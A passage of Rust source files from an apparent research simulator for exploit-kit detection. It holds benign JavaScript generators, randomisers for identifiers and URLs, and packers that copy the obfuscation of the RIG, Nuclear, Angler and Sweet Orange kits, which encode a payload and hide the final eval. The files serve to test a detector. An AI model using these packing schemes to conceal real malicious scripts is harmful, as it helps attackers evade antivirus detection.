}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_family_has_an_ie_exploit() {
        // Fig. 2: all four kits carry CVE-2013-2551.
        for family in KitFamily::ALL {
            assert!(
                family
                    .cve_inventory()
                    .iter()
                    .any(|c| c.id == "CVE-2013-2551"),
                "{family} should carry CVE-2013-2551"
            );
        }
    }

    #[test]
    fn nuclear_carries_the_2010_reader_cve() {
        assert!(KitFamily::Nuclear
            .cve_inventory()
            .iter()
            .any(|c| c.id == "CVE-2010-0188" && c.component == Component::AdobeReader));
    }

    #[test]
    fn av_check_column_matches_paper() {
        assert!(!KitFamily::SweetOrange.has_av_check());
        assert!(KitFamily::Angler.has_av_check());
        assert!(KitFamily::Rig.has_av_check());
        assert!(KitFamily::Nuclear.has_av_check());
    }

    #[test]
    fn inventory_sizes_are_plausible() {
        // The paper notes 5–7 CVEs per kit is typical; our Fig. 2 snapshot
        // has 4–6.
        for family in KitFamily::ALL {
            let n = family.cve_inventory().len();
            assert!((4..=7).contains(&n), "{family}: {n} CVEs");
        }
    }

    #[test]
    fn slug_is_identifier_safe() {
        let cve = Cve::new("CVE-2013-2551", Component::InternetExplorer);
        assert_eq!(cve.slug(), "cve_2013_2551");
    }

    #[test]
    fn table_mentions_every_family_and_av_column() {
        let table = cve_table();
        for family in KitFamily::ALL {
            assert!(table.contains(family.name()));
        }
        assert!(table.contains("AV check"));
        assert!(table.contains("CVE-2010-0188"));
    }

    #[test]
    fn short_codes_are_unique() {
        let codes: std::collections::HashSet<_> =
            KitFamily::ALL.iter().map(|f| f.short_code()).collect();
        assert_eq!(codes.len(), KitFamily::ALL.len());
    }

    #[test]
    fn display_impls() {
        assert_eq!(KitFamily::Nuclear.to_string(), "Nuclear");
        assert_eq!(Component::InternetExplorer.to_string(), "Internet Explorer");
        assert!(Cve::new("CVE-2014-0515", Component::Flash)
            .to_string()
            .contains("Flash"));
    }

    #[test]
    fn families_are_orderable_and_hashable() {
        let mut set = std::collections::BTreeSet::new();
        set.extend(KitFamily::ALL);
        assert_eq!(set.len(), 4);
    }
}
