//! Benign JavaScript generators.
//!
//! Nearly everything in a real grayware stream is benign: the paper reports
//! 280–1,200 clusters per day of which "almost all ... correspond to benign
//! code" (§IV). The generators here produce the kinds of benign code that
//! dominate pages carrying ActiveX content — script-library boilerplate,
//! plug-in probing, analytics beacons, ad loaders and form glue — each as a
//! family of near-duplicates (the same library embedded by many sites with
//! site-specific identifiers), so they cluster exactly the way benign code
//! clusters in the paper's pipeline.
//!
//! The [`BenignKind::PluginDetect`] generator embeds the same probing
//! library that exploit kits embed, reproducing the representative false
//! positive of the paper's Fig. 15 (a benign `PluginDetect` file with 79%
//! winnow overlap against Nuclear).

use crate::ident::{random_alnum, random_host, random_identifier};
use crate::payload::PLUGIN_DETECT_LIB;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::fmt;

/// The kinds of benign pages the stream generator mixes in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum BenignKind {
    /// Generic utility-library boilerplate (jQuery-style helpers).
    LibraryBoilerplate,
    /// A page embedding the `PluginDetect`-style probing library — the
    /// paper's Fig. 15 false-positive case.
    PluginDetect,
    /// Web-analytics beacon snippets.
    Analytics,
    /// Advertising loader snippets (these legitimately load Flash objects,
    /// which is why they end up in an ActiveX-triggered telemetry stream).
    AdLoader,
    /// Form validation / UI glue code.
    FormGlue,
}

impl BenignKind {
    /// All benign kinds.
    pub const ALL: [BenignKind; 5] = [
        BenignKind::LibraryBoilerplate,
        BenignKind::PluginDetect,
        BenignKind::Analytics,
        BenignKind::AdLoader,
        BenignKind::FormGlue,
    ];

    /// Short name for diagnostics.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            BenignKind::LibraryBoilerplate => "library",
            BenignKind::PluginDetect => "plugindetect",
            BenignKind::Analytics => "analytics",
            BenignKind::AdLoader => "adloader",
            BenignKind::FormGlue => "formglue",
        }
    }
}

impl fmt::Display for BenignKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Generate a benign HTML document of the given kind.
///
/// Different draws share the bulk of their code (it is "the same library")
/// but carry page-specific identifiers, hostnames and configuration
/// constants, like real deployments do.
#[must_use]
pub fn generate_benign<R: Rng + ?Sized>(kind: BenignKind, rng: &mut R) -> String {
    let body = match kind {
        BenignKind::LibraryBoilerplate => library_boilerplate(rng),
        BenignKind::PluginDetect => plugin_detect_page(rng),
        BenignKind::Analytics => analytics_snippet(rng),
        BenignKind::AdLoader => ad_loader(rng),
        BenignKind::FormGlue => form_glue(rng),
    };
    let title_len = rng.gen_range(5..12);
    let title = random_alnum(rng, title_len);
    format!(
        "<html>\n<head><title>{title}</title></head>\n<body>\n<div class=\"main\">content</div>\n\
         <script type=\"text/javascript\">\n{body}\n</script>\n</body>\n</html>\n"
    )
}

/// The optional entity-decoding helper bundled by a small minority of
/// benign library deployments (see `library_boilerplate`).
const ENTITY_DECODER_HELPER: &str = r#"  function decodeEntities(text) {
    var parts = text.split(";");
    var out = "";
    for (var i = 0; i < parts.length; i++) {
      if (parts[i].indexOf("&#") === 0) { out += String.fromCharCode(parts[i].slice(2)); }
      else { out += parts[i]; }
    }
    return out;
  }
"#;

fn library_boilerplate<R: Rng + ?Sized>(rng: &mut R) -> String {
    let ns = random_identifier(rng, 3..7);
    let cache = random_identifier(rng, 4..8);
    // A small minority of deployments bundle an HTML-entity decoding helper;
    // its fromCharCode/split combination is what the simulated commercial
    // AV's legacy heuristic (rarely) false-positives on, mirroring the small
    // but nonzero AV FP rate of paper Fig. 13(a).
    let entity_helper = if rng.gen_bool(0.03) {
        ENTITY_DECODER_HELPER
    } else {
        ""
    };
    format!(
        r#"var {ns} = (function() {{
  var {cache} = {{}};
  function extend(target, source) {{
    for (var key in source) {{
      if (Object.prototype.hasOwnProperty.call(source, key)) {{ target[key] = source[key]; }}
    }}
    return target;
  }}
  function each(list, fn) {{
    for (var i = 0; i < list.length; i++) {{ fn(list[i], i); }}
  }}
  function byId(id) {{
    if ({cache}[id]) {{ return {cache}[id]; }}
    {cache}[id] = document.getElementById(id);
    return {cache}[id];
  }}
  function addClass(el, cls) {{
    if (el && (" " + el.className + " ").indexOf(" " + cls + " ") < 0) {{ el.className += " " + cls; }}
  }}
  function removeClass(el, cls) {{
    if (el) {{ el.className = (" " + el.className + " ").replace(" " + cls + " ", " ").replace(/^\s+|\s+$/g, ""); }}
  }}
{entity_helper}
  return {{ extend: extend, each: each, byId: byId, addClass: addClass, removeClass: removeClass }};
}})();
{ns}.each([1, 2, 3], function(v) {{ {ns}.byId("slot" + v); }});
"#
    )
}

fn plugin_detect_page<R: Rng + ?Sized>(rng: &mut R) -> String {
    let handler = random_identifier(rng, 5..10);
    let site = random_host(rng);
    let player = random_identifier(rng, 5..9);
    format!(
        r#"{PLUGIN_DETECT_LIB}
var {player}Settings = {{
  width: 640, height: 360, autoplay: false, preload: "metadata",
  skin: "default", controls: ["play", "seek", "volume", "fullscreen"],
  sources: [
    {{ type: "video/mp4", quality: "720p", src: "http://{site}/media/clip-720.mp4" }},
    {{ type: "video/mp4", quality: "480p", src: "http://{site}/media/clip-480.mp4" }},
    {{ type: "application/x-shockwave-flash", src: "http://{site}/media/player.swf" }}
  ],
  analytics: {{ enabled: true, endpoint: "http://{site}/stats/view" }},
  captions: [{{ lang: "en", src: "http://{site}/media/clip.en.vtt" }}]
}};
function {player}Render(container, settings) {{
  var root = document.getElementById(container);
  if (!root) {{ return null; }}
  var video = document.createElement("video");
  video.setAttribute("width", settings.width);
  video.setAttribute("height", settings.height);
  if (settings.autoplay) {{ video.setAttribute("autoplay", "autoplay"); }}
  for (var si = 0; si < settings.sources.length; si++) {{
    var source = document.createElement("source");
    source.setAttribute("src", settings.sources[si].src);
    source.setAttribute("type", settings.sources[si].type);
    video.appendChild(source);
  }}
  var bar = document.createElement("div");
  bar.className = "player-controls";
  for (var ci = 0; ci < settings.controls.length; ci++) {{
    var btn = document.createElement("button");
    btn.className = "player-button player-" + settings.controls[ci];
    btn.setAttribute("data-action", settings.controls[ci]);
    bar.appendChild(btn);
  }}
  root.appendChild(video);
  root.appendChild(bar);
  return video;
}}
function {handler}() {{
  var flash = PluginProbe.getVersion("Shockwave Flash");
  var silverlight = PluginProbe.getVersion("Silverlight");
  var java = PluginProbe.getVersion("Java");
  var report = "flash=" + flash + "&sl=" + silverlight + "&java=" + java;
  var img = new Image();
  img.src = "http://{site}/player-requirements.gif?" + report;
  var video = {player}Render("main", {player}Settings);
  if (!flash && !video) {{
    document.getElementById("main").innerHTML = "Please install Flash to watch this video.";
  }}
}}
window.onload = {handler};
"#
    )
}

fn analytics_snippet<R: Rng + ?Sized>(rng: &mut R) -> String {
    let account = format!(
        "UA-{}-{}",
        rng.gen_range(100_000..999_999),
        rng.gen_range(1..9)
    );
    let queue = random_identifier(rng, 4..8);
    let host = random_host(rng);
    format!(
        r#"var {queue} = {queue} || [];
{queue}.push(["_setAccount", "{account}"]);
{queue}.push(["_setDomainName", "{host}"]);
{queue}.push(["_trackPageview"]);
(function() {{
  var ga = document.createElement("script");
  ga.type = "text/javascript";
  ga.async = true;
  ga.src = ("https:" == document.location.protocol ? "https://ssl" : "http://www") + ".{host}/ga.js";
  var s = document.getElementsByTagName("script")[0];
  s.parentNode.insertBefore(ga, s);
}})();
"#
    )
}

fn ad_loader<R: Rng + ?Sized>(rng: &mut R) -> String {
    let slot = random_alnum(rng, 10);
    let host = random_host(rng);
    let width = [300, 728, 160][rng.gen_range(0..3usize)];
    let height = [250, 90, 600][rng.gen_range(0..3usize)];
    format!(
        r#"(function() {{
  var slotId = "{slot}";
  var frame = document.createElement("iframe");
  frame.setAttribute("width", "{width}");
  frame.setAttribute("height", "{height}");
  frame.setAttribute("frameborder", "0");
  frame.setAttribute("scrolling", "no");
  frame.src = "http://{host}/serve?slot=" + slotId + "&cb=" + (new Date()).getTime();
  var anchor = document.getElementById("ad-" + slotId) || document.body;
  anchor.appendChild(frame);
  var swf = document.createElement("object");
  swf.setAttribute("type", "application/x-shockwave-flash");
  swf.setAttribute("data", "http://{host}/banner.swf?slot=" + slotId);
  swf.setAttribute("width", "{width}");
  swf.setAttribute("height", "{height}");
  anchor.appendChild(swf);
}})();
"#
    )
}

fn form_glue<R: Rng + ?Sized>(rng: &mut R) -> String {
    let form = random_identifier(rng, 5..9);
    let field = random_identifier(rng, 4..8);
    format!(
        r#"function validate_{form}() {{
  var email = document.forms["{form}"]["{field}"].value;
  var at = email.indexOf("@");
  var dot = email.lastIndexOf(".");
  if (at < 1 || dot < at + 2 || dot + 2 >= email.length) {{
    alert("Please enter a valid e-mail address.");
    return false;
  }}
  var consent = document.forms["{form}"]["consent"];
  if (consent && !consent.checked) {{
    alert("Please accept the terms to continue.");
    return false;
  }}
  return true;
}}
document.forms["{form}"].onsubmit = validate_{form};
"#
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    fn rng(seed: u64) -> ChaCha8Rng {
        ChaCha8Rng::seed_from_u64(seed)
    }

    #[test]
    fn all_kinds_produce_full_documents() {
        for kind in BenignKind::ALL {
            let html = generate_benign(kind, &mut rng(1));
            assert!(html.contains("<script"), "{kind}");
            assert!(html.contains("</html>"), "{kind}");
            assert!(html.len() > 300, "{kind}");
        }
    }

    #[test]
    fn plugindetect_pages_embed_the_shared_probe_library() {
        let html = generate_benign(BenignKind::PluginDetect, &mut rng(2));
        assert!(html.contains("isPlainObject"));
        assert!(html.contains("getVersion"));
    }

    #[test]
    fn samples_of_the_same_kind_are_near_duplicates_not_identical() {
        for kind in BenignKind::ALL {
            let a = generate_benign(kind, &mut rng(10));
            let b = generate_benign(kind, &mut rng(20));
            assert_ne!(a, b, "{kind}: should differ in identifiers");
            // Shared skeleton: a large fraction of lines is identical.
            let lines_a: std::collections::HashSet<&str> = a.lines().collect();
            let shared = b.lines().filter(|l| lines_a.contains(l)).count();
            assert!(
                shared * 2 > b.lines().count(),
                "{kind}: too little shared structure ({shared} of {})",
                b.lines().count()
            );
        }
    }

    #[test]
    fn benign_kinds_are_structurally_distinct_from_each_other() {
        let lib = generate_benign(BenignKind::LibraryBoilerplate, &mut rng(3));
        let ads = generate_benign(BenignKind::AdLoader, &mut rng(3));
        assert!(!lib.contains("x-shockwave-flash"));
        assert!(ads.contains("x-shockwave-flash"));
    }

    #[test]
    fn generation_is_deterministic_per_seed() {
        for kind in BenignKind::ALL {
            assert_eq!(
                generate_benign(kind, &mut rng(42)),
                generate_benign(kind, &mut rng(42))
            );
        }
    }

    #[test]
    fn kind_names_are_unique() {
        let names: std::collections::HashSet<_> =
            BenignKind::ALL.iter().map(|k| k.name()).collect();
        assert_eq!(names.len(), BenignKind::ALL.len());
    }
}
