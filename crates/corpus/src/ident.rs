//! Randomized identifier and string generation.
//!
//! Exploit-kit packers randomize variable names on every response so that
//! naive byte signatures never match twice (paper §III-A: clustering on
//! token classes exists precisely "to eliminate artificial noise created by
//! an attacker in the form of randomized variable names"). These helpers
//! produce that noise deterministically from a seeded RNG.

use rand::Rng;

const IDENT_START: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
const IDENT_CONT: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

/// A random JavaScript identifier of length within `len_range`
/// (e.g. `Euur1V`, `jkb0hA`, `QB0Xk` from the paper's Fig. 9).
///
/// # Panics
///
/// Panics if the range is empty or starts at zero.
pub fn random_identifier<R: Rng + ?Sized>(
    rng: &mut R,
    len_range: std::ops::Range<usize>,
) -> String {
    assert!(
        !len_range.is_empty() && len_range.start > 0,
        "invalid length range"
    );
    let len = rng.gen_range(len_range);
    let mut out = String::with_capacity(len);
    out.push(IDENT_START[rng.gen_range(0..IDENT_START.len())] as char);
    for _ in 1..len {
        out.push(IDENT_CONT[rng.gen_range(0..IDENT_CONT.len())] as char);
    }
    out
}

/// A random alphanumeric string (used for delimiters, keys, fake hex colors).
pub fn random_alnum<R: Rng + ?Sized>(rng: &mut R, len: usize) -> String {
    (0..len)
        .map(|_| IDENT_CONT[rng.gen_range(0..IDENT_CONT.len())] as char)
        .collect()
}

/// A random lowercase hostname-ish label, used for embedded kit URLs.
pub fn random_host<R: Rng + ?Sized>(rng: &mut R) -> String {
    let tlds = ["com", "net", "info", "biz", "org", "ru", "eu"];
    let label_len = rng.gen_range(6..14);
    let label: String = (0..label_len)
        .map(|_| (b'a' + rng.gen_range(0..26u8)) as char)
        .collect();
    format!("{label}.{}", tlds[rng.gen_range(0..tlds.len())])
}

/// A random URL path segment with query parameters, as found in kit landing
/// pages (these churn daily and are what makes RIG look 50% different from
/// one day to the next in the paper's Fig. 11(d)).
pub fn random_url<R: Rng + ?Sized>(rng: &mut R) -> String {
    let host = random_host(rng);
    let path_len = rng.gen_range(8..20);
    let path = random_alnum(rng, path_len);
    let param_len = rng.gen_range(12..28);
    let param = random_alnum(rng, param_len);
    format!("http://{host}/{path}.php?id={param}")
}

/// A shuffled "encryption key" string covering a printable alphabet, in the
/// style of the Nuclear packer's `cryptkey` (paper Fig. 4(b)).
pub fn random_cryptkey<R: Rng + ?Sized>(rng: &mut R) -> String {
    let mut alphabet: Vec<char> = (b'!'..=b'~')
        .map(|b| b as char)
        .filter(|c| *c != '"' && *c != '\\')
        .collect();
    // Fisher–Yates shuffle driven by the provided RNG.
    for i in (1..alphabet.len()).rev() {
        let j = rng.gen_range(0..=i);
        alphabet.swap(i, j);
    }
    alphabet.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    fn rng(seed: u64) -> ChaCha8Rng {
        ChaCha8Rng::seed_from_u64(seed)
    }

    #[test]
    fn identifiers_are_valid_js_identifiers() {
        let mut r = rng(1);
        for _ in 0..200 {
            let ident = random_identifier(&mut r, 3..9);
            assert!((3..9).contains(&ident.len()));
            let first = ident.chars().next().unwrap();
            assert!(first.is_ascii_alphabetic());
            assert!(ident.chars().all(|c| c.is_ascii_alphanumeric()));
        }
    }

    #[test]
    fn identifiers_are_deterministic_per_seed() {
        let a = random_identifier(&mut rng(42), 4..8);
        let b = random_identifier(&mut rng(42), 4..8);
        assert_eq!(a, b);
        let c = random_identifier(&mut rng(43), 4..8);
        assert_ne!(a, c);
    }

    #[test]
    #[should_panic(expected = "invalid length range")]
    fn zero_length_identifier_panics() {
        let _ = random_identifier(&mut rng(1), 0..3);
    }

    #[test]
    fn alnum_has_exact_length() {
        assert_eq!(random_alnum(&mut rng(2), 17).len(), 17);
        assert_eq!(random_alnum(&mut rng(2), 0).len(), 0);
    }

    #[test]
    fn urls_look_like_urls() {
        let mut r = rng(3);
        for _ in 0..50 {
            let url = random_url(&mut r);
            assert!(url.starts_with("http://"));
            assert!(url.contains(".php?id="));
        }
    }

    #[test]
    fn cryptkey_is_a_permutation_of_the_alphabet() {
        let key = random_cryptkey(&mut rng(4));
        let mut chars: Vec<char> = key.chars().collect();
        assert_eq!(chars.len(), 92, "printable ASCII minus quote and backslash");
        chars.sort_unstable();
        chars.dedup();
        assert_eq!(chars.len(), 92, "no duplicate characters");
        assert!(!key.contains('"') && !key.contains('\\'));
    }

    #[test]
    fn cryptkeys_differ_across_draws() {
        let mut r = rng(5);
        assert_ne!(random_cryptkey(&mut r), random_cryptkey(&mut r));
    }
}
