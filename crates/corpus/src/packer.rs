//! Family-specific packers (paper Fig. 4).
//!
//! The packer is the fast-changing outer layer of the kit: it hides the
//! payload behind string encodings, randomizes every identifier per
//! response, and obscures the final call to `eval`. Each family uses a
//! different strategy, modeled on the code the paper reproduces in Fig. 4:
//!
//! * **RIG** — the payload's character codes are joined with a short
//!   delimiter, accumulated through repeated `collect("...")` calls, split
//!   and rebuilt with `String.fromCharCode`.
//! * **Nuclear** — the payload is encoded as two-digit (three-digit after
//!   the August 12 semantic packer change) indexes into a per-response
//!   shuffled `cryptkey`, and well-known names (`concat`, `substr`,
//!   `document`, ...) appear spliced with the current delimiter
//!   (`sUluNuUluNbUluN...`).
//! * **Angler** — the payload is hex-encoded and scattered over several
//!   chunk variables that are concatenated and decoded at runtime.
//! * **Sweet Orange** — the payload's character codes are joined with a
//!   delimiter and the decoding loop obscures its integer constants behind
//!   `Math.sqrt` of perfect squares (`Math.sqrt(196)` instead of `14`).
//!
//! Every packer's output can be reversed by the corresponding unpacker in
//! the `kizzle-unpack` crate, mirroring the paper's choice to implement
//! per-kit unpackers rather than hooking a JavaScript engine's `eval`.

use crate::evolution::KitState;
use crate::family::KitFamily;
use crate::ident::{random_alnum, random_identifier};
use rand::Rng;

/// Pack a payload for the given kit state, producing the JavaScript body of
/// the landing page's main `<script>` element.
///
/// Identifier names and chunk boundaries are randomized from `rng` (a fresh
/// draw per emitted sample); the *structure* depends only on the family and
/// the state, which is exactly the property Kizzle's token-class clustering
/// exploits.
#[must_use]
pub fn pack<R: Rng + ?Sized>(state: &KitState, payload: &str, rng: &mut R) -> String {
    match state.family {
        KitFamily::Rig => pack_rig(state, payload, rng),
        KitFamily::Nuclear => pack_nuclear(state, payload, rng),
        KitFamily::Angler => pack_angler(state, payload, rng),
        KitFamily::SweetOrange => pack_sweet_orange(state, payload, rng),
    }
}

/// Splice `delimiter` between every character of `word`
/// (`substr` + `UluN` → `sUluNuUluNbUluNsUluNtUluNr`).
#[must_use]
pub fn splice_delimiter(word: &str, delimiter: &str) -> String {
    let chars: Vec<String> = word.chars().map(|c| c.to_string()).collect();
    chars.join(delimiter)
}

fn ident<R: Rng + ?Sized>(rng: &mut R) -> String {
    random_identifier(rng, 4..9)
}

/// RIG packer (paper Fig. 4(a)).
fn pack_rig<R: Rng + ?Sized>(state: &KitState, payload: &str, rng: &mut R) -> String {
    let delim = &state.delimiter;
    let buffer = ident(rng);
    let delim_var = ident(rng);
    let collect = ident(rng);
    let pieces = ident(rng);
    let screlem = ident(rng);
    let idx = ident(rng);

    // Character codes joined by the delimiter, broken into collect() calls.
    let encoded: String = payload
        .chars()
        .map(|c| format!("{}{delim}", c as u32))
        .collect();
    // The accumulator chunk size is a property of the packer generation,
    // not of the individual response: every sample of the same kit version
    // shares it, which keeps the token structure of a day's variants tight.
    let chunk_len = 180 + (state.version as usize % 4) * 8;
    let chunks: Vec<&str> = encoded
        .as_bytes()
        .chunks(chunk_len)
        .map(|c| std::str::from_utf8(c).expect("ascii"))
        .collect();

    let mut out = String::with_capacity(encoded.len() + 1024);
    out.push_str(&format!("var {buffer}=\"\";\n"));
    out.push_str(&format!("var {delim_var}=\"{delim}\";\n"));
    out.push_str(&format!(
        "function {collect}(text) {{ {buffer} += text; }}\n"
    ));
    for chunk in chunks {
        out.push_str(&format!("{collect}(\"{chunk}\");\n"));
    }
    out.push_str(&format!("var {pieces} = {buffer}.split({delim_var});\n"));
    out.push_str(&format!(
        "var {screlem} = document.createElement(\"script\");\n"
    ));
    out.push_str(&format!(
        "for (var {idx}=0; {idx}<{pieces}.length; {idx}++) {{ {screlem}.text += String.fromCharCode({pieces}[{idx}]); }}\n"
    ));
    out.push_str(&format!("document.body.appendChild({screlem});\n"));
    out
}

/// Nuclear packer (paper Fig. 4(b)).
fn pack_nuclear<R: Rng + ?Sized>(state: &KitState, payload: &str, rng: &mut R) -> String {
    let key = crate::ident::random_cryptkey(rng);
    let digits_per_index = if state.packer_revision == 0 { 2 } else { 3 };

    // Encode every payload character as an index into the cryptkey. Characters
    // not present in the key (newline, quote, backslash, tab) are escaped as
    // index 99.. + code, handled by the unpacker.
    let mut encoded = String::with_capacity(payload.len() * digits_per_index);
    for ch in payload.chars() {
        match key.find(ch) {
            Some(idx) => encoded.push_str(&format!("{idx:0width$}", width = digits_per_index)),
            None => {
                // Escape sequence: the key length (out-of-range index) followed
                // by the character code as 3 digits.
                encoded.push_str(&format!(
                    "{:0width$}{:03}",
                    key.chars().count(),
                    ch as u32 % 1000,
                    width = digits_per_index
                ));
            }
        }
    }

    let payload_var = ident(rng);
    let key_var = ident(rng);
    let out_var = ident(rng);
    let i_var = ident(rng);
    let getter = ident(rng);
    let thiscopy = ident(rng);
    let bgc = random_alnum(rng, 6);
    let delim = &state.delimiter;
    let spliced_eval = splice_delimiter("eval", delim);
    let decorated: Vec<String> = ["concat", "substr", "document", "Color", "length", "replace"]
        .iter()
        .map(|w| splice_delimiter(w, delim))
        .collect();

    let mut out = String::with_capacity(encoded.len() + 2048);
    out.push_str(&format!("var {payload_var} = \"{encoded}\";\n"));
    out.push_str(&format!("var {key_var} = \"{key}\";\n"));
    out.push_str(&format!("var {getter} = function(a) {{ return a; }};\n"));
    out.push_str(&format!("var {thiscopy} = this;\n"));
    out.push_str(&format!(
        "var {bgc} = [{}];\n",
        decorated
            .iter()
            .map(|s| format!("\"{s}\""))
            .collect::<Vec<_>>()
            .join(", ")
    ));
    out.push_str(&format!("var {out_var} = \"\";\n"));
    out.push_str(&format!(
        "for (var {i_var} = 0; {i_var} < {payload_var}.length; {i_var} += {digits_per_index}) {{ {out_var} += {key_var}.charAt(parseInt({payload_var}.substr({i_var}, {digits_per_index}), 10)); }}\n"
    ));
    out.push_str(&format!(
        "{thiscopy}[{getter}(\"{spliced_eval}\").split(\"{delim}\").join(\"\")]({out_var});\n"
    ));
    out
}

/// Angler packer: hex chunks concatenated and decoded.
fn pack_angler<R: Rng + ?Sized>(state: &KitState, payload: &str, rng: &mut R) -> String {
    let hex: String = payload.bytes().map(|b| format!("{b:02x}")).collect();
    // Chunk count depends (mildly) on the packer generation so that packer
    // mutations are visible in the token structure.
    let chunk_count = 6 + (state.version as usize % 4) + rng.gen_range(0..2usize);
    let chunk_len = hex.len().div_ceil(chunk_count).max(1);
    // Chunk boundaries must be even so hex pairs stay intact.
    let chunk_len = chunk_len + (chunk_len % 2);

    let chunk_vars: Vec<String> = (0..chunk_count).map(|_| ident(rng)).collect();
    let joined = ident(rng);
    let result = ident(rng);
    let i_var = ident(rng);

    let mut out = String::with_capacity(hex.len() + 2048);
    let mut offset = 0;
    let mut used_vars = Vec::new();
    for var in &chunk_vars {
        if offset >= hex.len() {
            break;
        }
        let end = (offset + chunk_len).min(hex.len());
        out.push_str(&format!("var {var} = \"{}\";\n", &hex[offset..end]));
        used_vars.push(var.clone());
        offset = end;
    }
    out.push_str(&format!("var {joined} = {};\n", used_vars.join(" + ")));
    out.push_str(&format!("var {result} = \"\";\n"));
    out.push_str(&format!(
        "for (var {i_var} = 0; {i_var} < {joined}.length; {i_var} += 2) {{ {result} += String.fromCharCode(parseInt({joined}.substr({i_var}, 2), 16)); }}\n"
    ));
    out.push_str(&format!("window[\"ev\" + \"al\"]({result});\n"));
    out
}

/// Sweet Orange packer: delimiter-joined character codes plus `Math.sqrt`
/// integer obfuscation in the decoder.
fn pack_sweet_orange<R: Rng + ?Sized>(state: &KitState, payload: &str, rng: &mut R) -> String {
    let delim = &state.delimiter;
    let encoded: String = payload
        .chars()
        .map(|c| format!("{}{delim}", c as u32))
        .collect();
    let chunk_len = 240 + (state.version as usize % 3) * 10;
    let chunks: Vec<&str> = encoded
        .as_bytes()
        .chunks(chunk_len)
        .map(|c| std::str::from_utf8(c).expect("ascii"))
        .collect();

    let arr = ident(rng);
    let acc = ident(rng);
    let q = ident(rng);
    let decoder = ident(rng);

    // The decoder's integer constants are obscured: revision 0 uses
    // Math.sqrt of perfect squares, revision >= 1 uses Math.exp(1)-Math.E
    // (= 0) offsets, mirroring the paper's observation that the kit swaps
    // one mathematical identity for another.
    let zero_expr = if state.packer_revision == 0 {
        "Math.sqrt(0)".to_string()
    } else {
        "(Math.exp(1) - Math.E)".to_string()
    };
    let one_expr = if state.packer_revision == 0 {
        "Math.sqrt(1)".to_string()
    } else {
        "(Math.exp(1) / Math.E)".to_string()
    };

    let mut out = String::with_capacity(encoded.len() + 2048);
    out.push_str(&format!("var {arr} = [];\n"));
    for chunk in &chunks {
        out.push_str(&format!("{arr}.push(\"{chunk}\");\n"));
    }
    out.push_str(&format!("function {decoder}() {{\n"));
    out.push_str(&format!(
        "  var ok = {arr}.join(\"\").split(\"{delim}\");\n"
    ));
    out.push_str(&format!("  var {acc} = \"\";\n"));
    out.push_str(&format!(
        "  for (var {q} = {zero}; {q} < ok.length - {one}; {q}++) {{ {acc} += String.fromCharCode(ok.charAt ? parseInt(ok[{q}], 10) : ok[{q}]); }}\n",
        zero = zero_expr,
        one = one_expr,
    ));
    out.push_str(&format!("  return {acc};\n}}\n"));
    out.push_str(&format!("window[\"ev\" + \"al\"]({decoder}());\n"));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::date::SimDate;
    use crate::evolution::KitState;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    const PAYLOAD: &str = "function launch(){ var x = PluginProbe.getVersion(\"Java\"); if (x) { run_cve_2013_2551(); } }\nwindow.setTimeout(launch, 100);";

    fn rng(seed: u64) -> ChaCha8Rng {
        ChaCha8Rng::seed_from_u64(seed)
    }

    fn state(family: KitFamily, m: u32, d: u32) -> KitState {
        KitState::on_date(family, SimDate::new(2014, m, d))
    }

    #[test]
    fn splice_delimiter_matches_paper_example() {
        assert_eq!(
            splice_delimiter("substr", "UluN"),
            "sUluNuUluNbUluNsUluNtUluNr"
        );
        assert_eq!(splice_delimiter("ab", ""), "ab");
        assert_eq!(splice_delimiter("", "X"), "");
    }

    #[test]
    fn every_packer_hides_the_payload_text() {
        for family in KitFamily::ALL {
            let packed = pack(&state(family, 8, 15), PAYLOAD, &mut rng(1));
            assert!(
                !packed.contains("PluginProbe.getVersion"),
                "{family}: payload text leaked into packed form"
            );
            assert!(
                packed.len() > PAYLOAD.len(),
                "{family}: packed form too small"
            );
        }
    }

    #[test]
    fn packer_output_is_deterministic_per_seed_and_randomized_across_seeds() {
        for family in KitFamily::ALL {
            let s = state(family, 8, 10);
            let a = pack(&s, PAYLOAD, &mut rng(7));
            let b = pack(&s, PAYLOAD, &mut rng(7));
            let c = pack(&s, PAYLOAD, &mut rng(8));
            assert_eq!(a, b, "{family}");
            assert_ne!(a, c, "{family}: identifiers should differ across samples");
        }
    }

    #[test]
    fn rig_packed_form_contains_delimiter_and_charcodes() {
        let s = state(KitFamily::Rig, 8, 10);
        let packed = pack(&s, PAYLOAD, &mut rng(3));
        assert!(packed.contains(&format!("=\"{}\";", s.delimiter)));
        assert!(packed.contains("String.fromCharCode"));
        assert!(packed.contains("document.body.appendChild"));
    }

    #[test]
    fn nuclear_packed_form_contains_spliced_strings_and_key() {
        let s = state(KitFamily::Nuclear, 8, 26); // delimiter UluN
        let packed = pack(&s, PAYLOAD, &mut rng(4));
        assert!(packed.contains("UluN"));
        assert!(packed.contains(&splice_delimiter("document", "UluN")));
        assert!(packed.contains("charAt(parseInt("));
        assert!(packed.contains(".split(\"UluN\").join(\"\")"));
    }

    #[test]
    fn nuclear_semantic_change_switches_index_width() {
        let before = pack(&state(KitFamily::Nuclear, 8, 11), PAYLOAD, &mut rng(5));
        let after = pack(&state(KitFamily::Nuclear, 8, 13), PAYLOAD, &mut rng(5));
        assert!(before.contains("substr("));
        assert!(before.contains(", 2), 10)"));
        assert!(after.contains(", 3), 10)"));
    }

    #[test]
    fn angler_packed_form_is_hex_chunked() {
        let packed = pack(&state(KitFamily::Angler, 8, 20), PAYLOAD, &mut rng(6));
        assert!(packed.contains("parseInt("));
        assert!(packed.contains(", 16)"));
        assert!(packed.contains("window[\"ev\" + \"al\"]"));
        // At least 4 hex chunk variables.
        assert!(packed.matches("var ").count() >= 6);
    }

    #[test]
